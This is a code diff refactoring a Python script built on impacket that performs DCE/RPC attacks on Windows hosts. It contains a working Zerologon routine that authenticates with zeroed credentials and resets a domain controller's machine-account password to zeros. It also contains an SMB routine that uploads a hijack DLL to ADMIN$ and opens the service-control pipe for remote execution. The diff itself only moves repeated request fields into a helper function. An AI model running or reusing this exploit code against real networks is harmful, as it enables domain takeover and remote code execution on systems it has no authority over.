@@ -22,14 +22,13 @@ from __future__ import annotations
 
 import sys
 
+from dcerpc_impacket_client import connect
 from impacket.dcerpc.v5 import drsuapi, nrpc, rprn, rrp, samr, scmr, srvs, transport
 from impacket.dcerpc.v5.dcom import wmi
 from impacket.dcerpc.v5.dcomrt import IRemoteSCMActivator
 from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
 from impacket.dcerpc.v5.ndr import NDRCALL
 from impacket.dcerpc.v5.rpcrt import DCERPCException
-from impacket.smb3structs import SMB2_DIALECT_21
-from impacket.smbconnection import SMBConnection
 from impacket.uuid import string_to_bin, uuidtup_to_bin
 
 PORTS = {
@@ -106,6 +105,15 @@ def call(dce, request, object_uuid: bytes | None = None) -> None:
     dce.recv()
 
 
+def secure_channel(request, account: str, computer: str):
+    """The fields the secure channel calls share: a DC's account, as Zerologon names it."""
+    request["PrimaryName"] = NULL
+    request["AccountName"] = account + "\x00"
+    request["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
+    request["ComputerName"] = computer + "\x00"
+    return request
+
+
 def zerologon(server: str) -> None:
     dce = tcp_dce(server, "netlogon", nrpc.MSRPC_UUID_NRPC)
     for _ in range(ZEROLOGON_ATTEMPTS):
@@ -114,28 +122,17 @@ def zerologon(server: str) -> None:
         challenge["ComputerName"] = ATTACKER + "\x00"
         challenge["ClientChallenge"] = b"\x00" * 8
         call(dce, challenge)
-        attempt = nrpc.NetrServerAuthenticate2()
-        attempt["PrimaryName"] = NULL
-        attempt["AccountName"] = DC_ACCOUNT + "\x00"
-        attempt["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
-        attempt["ComputerName"] = ATTACKER + "\x00"
+        attempt = secure_channel(nrpc.NetrServerAuthenticate2(), DC_ACCOUNT, ATTACKER)
         attempt["ClientCredential"] = b"\x00" * 8
         attempt["NegotiateFlags"] = 0x212FFFFF
         call(dce, attempt)
-    reset = nrpc.NetrServerPasswordSet2()
-    reset["PrimaryName"] = NULL
-    reset["AccountName"] = DC_ACCOUNT + "\x00"
-    reset["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
-    reset["ComputerName"] = ATTACKER + "\x00"
+    reset = secure_channel(nrpc.NetrServerPasswordSet2(), DC_ACCOUNT, ATTACKER)
     reset["Authenticator"]["Credential"] = b"\x00" * 8
     reset["Authenticator"]["Timestamp"] = 0
     reset["ClearNewPassword"] = b"\x00" * 516
     call(dce, reset)
-    genuine = nrpc.NetrServerAuthenticate3()
-    genuine["PrimaryName"] = NULL
-    genuine["AccountName"] = "WKSTN01$\x00"
+    genuine = secure_channel(nrpc.NetrServerAuthenticate3(), "WKSTN01$", "WKSTN01")
     genuine["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel
-    genuine["ComputerName"] = "WKSTN01\x00"
     genuine["ClientCredential"] = GENUINE_CREDENTIAL
     genuine["NegotiateFlags"] = 0x612FFFFF
     call(dce, genuine)
@@ -257,15 +254,7 @@ def over_tcp(server: str, client: str) -> None:
 
 
 def over_smb(server: str, user: str, password: str, client: str, dll: str) -> None:
-    smb = SMBConnection(server, server, preferredDialect=SMB2_DIALECT_21)
-    smb.login(user, password)
-
-    def pipe(name: str, uuid: bytes):
-        dce = transport.SMBTransport(server, filename=name, smb_connection=smb).get_dce_rpc()
-        dce.connect()
-        dce.bind(uuid)
-        return dce
-
+    smb, pipe = connect(server, user, password)
     with open(dll, "rb") as payload:
         smb.putFile("ADMIN$", HIJACK_DLL, payload.read)
     dce = pipe("\\svcctl", scmr.MSRPC_UUID_SCMR)
